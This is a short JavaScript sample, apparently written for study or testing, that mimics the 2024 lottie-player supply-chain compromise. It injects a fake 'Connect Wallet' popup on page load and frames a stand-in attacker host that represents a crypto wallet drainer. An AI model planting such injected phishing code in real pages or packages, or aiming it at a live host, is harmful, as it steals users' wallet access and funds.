// Mimics the lottie-player compromise (Oct 2024): a fake "Connect Wallet" popup injected into
// every page using the player, loading the drainer from the attacker's host. Defanged: .invalid.
function showModal() {
  const box = document.createElement('div');
  box.innerHTML =
    '<h2>Connect Wallet to view this animation</h2><iframe src="https://wallet-verify.invalid/connect"></iframe>';
  document.body.appendChild(box);
}

if (typeof document !== 'undefined') setTimeout(showModal, 1000);
